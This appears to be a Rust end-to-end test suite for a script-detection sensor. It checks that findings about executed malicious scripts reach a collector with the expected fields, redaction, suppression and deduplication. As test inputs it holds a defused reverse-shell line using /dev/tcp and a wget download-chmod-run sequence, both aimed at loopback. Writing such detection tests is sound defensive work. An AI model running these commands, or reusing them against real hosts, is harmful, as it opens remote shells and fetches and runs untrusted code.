//! From a script run on this machine to a finding in the collector's store.

use std::{fs, process::Command};

use e2e::{collectors, daemon::bin, node::Node, outcome::sha256, shell};
use serde_json::Value;

/// Looks like an attack and does nothing: what it names is behind `false`, and only loopback is named.
const ATTACK: &str = "false && bash -i >& /dev/tcp/127.0.0.1/9 0>&1";

fn script(finding: &Value) -> &Value {
    &finding["processes"][0]["script"]
}

#[test]
fn every_documented_field_is_filled() {
    let node = Node::start(&["--project", "p-1", "--node", "node-7"]).unwrap();
    let text = format!("#!/bin/bash\n{ATTACK} # field-test\n");
    let file = node.file("attack.sh", text.as_bytes()).unwrap();
    let pid = shell::execute(&file, &["first", "second arg"]).unwrap();
    let findings =
        node.wait_for(|f| f.iter().any(|f| script(f)["sha256"] == sha256(text.as_bytes()).as_str())).unwrap();
    let finding = findings.iter().find(|f| script(f)["sha256"] == sha256(text.as_bytes()).as_str()).unwrap();

    assert_eq!(finding["category"], "Malicious Script Executed");
    assert_eq!(finding["findingClass"], "THREAT");
    assert_eq!(finding["state"], "ACTIVE");
    assert!(["HIGH", "CRITICAL"].contains(&finding["severity"].as_str().unwrap()));
    let name = finding["name"].as_str().unwrap();
    assert!(name.starts_with("projects/p-1/sources/scriptwatch/locations/global/findings/"), "{name}");
    assert_eq!(finding["parent"], name.split("/findings/").next().unwrap());
    assert_eq!(
        finding["externalUri"],
        format!("https://www.virustotal.com/gui/file/{}/detection", sha256(text.as_bytes()))
    );
    let attack = &finding["mitreAttack"];
    assert_eq!(attack["primaryTactic"], "EXECUTION");
    assert_eq!(
        attack["primaryTechniques"],
        serde_json::json!(["COMMAND_AND_SCRIPTING_INTERPRETER", "UNIX_SHELL"])
    );
    assert!(attack["additionalTechniques"].as_array().unwrap().contains(&"INGRESS_TOOL_TRANSFER".into()));

    let process = &finding["processes"][0];
    assert_eq!(process["pid"], pid.to_string());
    assert_eq!(process["parentPid"], std::process::id().to_string());
    assert_eq!(process["name"], "attack.sh");
    assert_eq!(
        process["args"],
        serde_json::json!(["/bin/bash", file.to_str().unwrap(), "first", "second arg"])
    );
    let bash = fs::read(fs::canonicalize("/bin/bash").unwrap()).unwrap();
    assert_eq!(process["binary"]["path"], fs::canonicalize("/bin/bash").unwrap().to_str().unwrap());
    assert_eq!(process["binary"]["size"], bash.len().to_string());
    assert_eq!(process["binary"]["sha256"], sha256(&bash));
    assert_eq!(script(finding)["path"], file.to_str().unwrap());
    assert_eq!(script(finding)["contents"], text);
    assert_eq!(script(finding)["size"], text.len().to_string());
    assert_eq!(script(finding)["hashedSize"], text.len().to_string());
    // The parent is this test.
    assert_eq!(finding["processes"][1]["pid"], std::process::id().to_string());
    let properties = &finding["sourceProperties"];
    assert_eq!(properties["VM_Instance_Name"], "node-7");
    assert_eq!(properties["Script_Origin"], "file");
    assert!(properties["Verdict_Spans"][0].as_str().unwrap().starts_with("lines 2-2"));
    assert!(finding["description"].as_str().unwrap().contains("Lines that carried the verdict: 2."));
}

#[test]
fn literal_execution_has_no_path_and_harmless_text_stays_here() {
    let node = Node::start(&[]).unwrap();
    let attack = format!("{ATTACK} # literal");
    shell::run("/bin/bash", &["-c", &attack]).unwrap();
    shell::run("/bin/bash", &["-c", "echo harmless words that stay on the node"]).unwrap();
    let findings = node.wait_for(|f| f.iter().any(|f| script(f)["contents"] == attack.as_str())).unwrap();
    let finding = findings.iter().find(|f| script(f)["contents"] == attack.as_str()).unwrap();
    assert!(script(finding)["path"].is_null());
    let outcome = node.finish().unwrap();
    assert!(outcome.findings.iter().all(|f| !f.to_string().contains("harmless words that stay")));
    assert_eq!(outcome.total("findings_spooled_total"), outcome.total("findings_delivered_total"));
}

#[test]
fn a_shell_that_is_not_seen_as_a_whole_is_told() {
    let node = Node::start(&[]).unwrap();
    let by = |shell: &str| {
        let attack = format!("{ATTACK} # by {shell}");
        shell::run(shell, &["-c", &attack]).unwrap();
        let is_it = |f: &Value| script(f)["contents"] == attack.as_str();
        let findings = node.wait_for(|f| f.iter().any(is_it)).unwrap();
        findings.iter().find(|f| is_it(f)).unwrap()["sourceProperties"]["Shell_Unseen"].clone()
    };
    // mksh has no probes.
    assert_eq!(by("/bin/mksh"), "not_probed");
    assert!(by("/bin/bash").is_null());
    node.wait_until(|| node.reading("cgroups_unseen{reason=\"not_probed\"}").is_ok_and(|n| n == 1)).unwrap();
    node.finish().unwrap();
}

#[test]
fn what_is_suppressed_is_counted_and_does_not_leave() {
    let rules = tempfile::NamedTempFile::new().unwrap();
    let attack = format!("{ATTACK} # suppressed");
    let hash = sha256(attack.as_bytes());
    fs::write(rules.path(), format!("[[suppress]]\nsha256 = \"{hash}\"\nreason = \"a test\"\n")).unwrap();
    let node = Node::start(&["--suppressions", rules.path().to_str().unwrap()]).unwrap();
    shell::run("/bin/bash", &["-c", &attack]).unwrap();
    shell::run("/bin/bash", &["-c", &format!("{ATTACK} # reported")]).unwrap();
    let outcome = node.finish().unwrap();
    assert_eq!(outcome.total("detections_suppressed_total"), 1);
    assert!(outcome.findings.iter().all(|f| script(f)["sha256"] != hash.as_str()));
    assert_eq!(outcome.findings.len(), 1);
}

#[test]
fn secrets_and_arguments_stay_on_the_node_if_asked_to() {
    let rules = tempfile::NamedTempFile::new().unwrap();
    fs::write(rules.path(), "[[redact]]\nname = \"password\"\npattern = '--password[= ](\\S+)'\n").unwrap();
    let node =
        Node::start(&["--redact", &rules.path().to_string_lossy(), "--report-arguments", "off"]).unwrap();
    let text = format!("#!/bin/bash\n{ATTACK} # --password=hunter2\n");
    let file = node.file("secret.sh", text.as_bytes()).unwrap();
    shell::execute(&file, &["--password", "hunter3"]).unwrap();
    let findings = node.wait_for(|all| !all.is_empty()).unwrap();
    let finding = &findings[0];
    assert!(!finding.to_string().contains("hunter"), "{finding:#}");
    assert_eq!(script(finding)["contents"], text.replace("hunter2", "[redacted: password]"));
    assert_eq!(script(finding)["sha256"], sha256(text.as_bytes()).as_str());
    assert_eq!(finding["sourceProperties"]["Redacted"], serde_json::json!(["password"]));
    assert_eq!(finding["sourceProperties"]["Arguments_Left_Out"], true);
    assert_eq!(finding["processes"][0]["args"], Value::Null);
    node.finish().unwrap();
}

#[test]
fn a_growing_script_is_one_finding() {
    let node = Node::start(&[]).unwrap();
    // Each line forks, so the script is judged again and again while it grows.
    let text = format!("# growing\n{}", format!("{ATTACK}\n/bin/true\n").repeat(40));
    shell::pipe("/bin/bash", &[], text.as_bytes()).unwrap();
    node.wait_for(|f| f.iter().any(|f| script(f)["contents"] == text.as_str())).unwrap();
    let outcome = node.finish().unwrap();
    let own: Vec<_> = outcome
        .findings
        .iter()
        .filter(|f| script(f)["contents"].as_str().unwrap().starts_with("# growing"))
        .collect();
    assert_eq!(own.len(), 1);
    assert_eq!(script(own[0])["contents"], text);
}

#[test]
fn findings_made_while_the_collector_is_away_arrive_once() {
    let mut node = Node::start(&[]).unwrap();
    let port: u16 = fs::read_to_string(node.path("port")).unwrap().parse().unwrap();
    let attack = |i: usize| format!("{ATTACK} # away-{i}");
    for i in 0..30 {
        match i {
            10 => node.collector.kill().unwrap(),
            20 => node.collector = collectors::start(node.dir.path(), port).unwrap().0,
            _ => {}
        }
        shell::run("/bin/bash", &["-c", &attack(i)]).unwrap();
    }
    let of = |findings: &[Value], i: usize| {
        findings.iter().filter(|f| script(f)["contents"] == attack(i).as_str()).count()
    };
    let findings = node.wait_for(|f| (0..30).all(|i| of(f, i) > 0)).unwrap();
    for i in 0..30 {
        assert_eq!(of(&findings, i), 1, "attack {i}");
    }
}

#[test]
fn replay_says_what_the_daemon_said() {
    let mut node = Node::start(&[]).unwrap();
    let attack = format!("{ATTACK} # replayed");
    shell::run("/bin/bash", &["-c", &attack]).unwrap();
    shell::run("/bin/dash", &["-c", "echo fine; true"]).unwrap();
    node.wait_for(|f| !f.is_empty()).unwrap();
    let record = node.path("record.jsonl");
    let kept = tempfile::NamedTempFile::with_suffix(".jsonl").unwrap();
    node.sensor.stop().unwrap();
    fs::copy(&record, kept.path()).unwrap();
    let stored = node.findings().unwrap();
    let replay = |format: &str| {
        let output = Command::new(bin().join("sensor"))
            .args(["replay", "--format", format])
            .arg(kept.path())
            .output()
            .unwrap();
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8(output.stdout).unwrap()
    };
    let again: Vec<Value> = replay("json").lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let key = |f: &Value| {
        (
            f["name"].as_str().unwrap().rsplit('/').next().unwrap().to_owned(),
            script(f)["sha256"].clone().to_string(),
            f["sourceProperties"]["Verdict_Score"].to_string(),
        )
    };
    let mut expected: Vec<_> = stored.iter().map(key).collect();
    let mut got: Vec<_> = again.iter().map(key).collect();
    expected.sort();
    got.sort();
    assert_eq!(got, expected);
    let table = replay("table");
    assert!(table.lines().any(|l| l.starts_with("benign") && l.contains("echo fine")), "{table}");
    assert!(table.lines().any(|l| l.starts_with("malicious") && l.contains("command")), "{table}");
}

/// Nothing answers there, and nothing is there: each fails, and scores low by itself.
const STEPS: [&str; 4] = [
    "wget -q -O /tmp/.scriptwatch/a http://127.0.0.1:9/a",
    "chmod 777 /tmp/.scriptwatch/a",
    "/tmp/.scriptwatch/a",
    "rm -f /tmp/.scriptwatch/a",
];

#[test]
fn commands_that_are_harmless_one_by_one_are_one_finding_together() {
    let node = Node::start(&[]).unwrap();
    let pids = STEPS.map(|step| shell::run("/bin/bash", &["-c", step]).unwrap().to_string());
    let text = STEPS.map(|step| format!("{step}\n")).concat();
    let findings = node.wait_for(|all| all.iter().any(|one| script(one)["contents"] == text)).unwrap();
    assert_eq!(findings.len(), 1, "{findings:#?}");
    let (finding, properties) = (&findings[0], &findings[0]["sourceProperties"]);
    assert_eq!(properties["Script_Origin"], "session");
    assert_eq!(script(finding)["sha256"], sha256(text.as_bytes()));
    assert_eq!(properties["Session_Scripts"].as_array().unwrap().len(), STEPS.len());
    let commands = properties["Session_Commands"].as_array().unwrap();
    for (at, (command, pid)) in commands.iter().zip(&pids).enumerate() {
        let (command, line) = (command.as_str().unwrap(), at + 1);
        let is_it = command.starts_with(&format!("lines {line}-{line}: 20"))
            && command.ends_with(&format!(", command, process {pid}"));
        assert!(is_it, "{command}");
    }
    let description = finding["description"].as_str().unwrap();
    assert!(description.contains("the last of 4 scripts of one session"), "{description}");
}
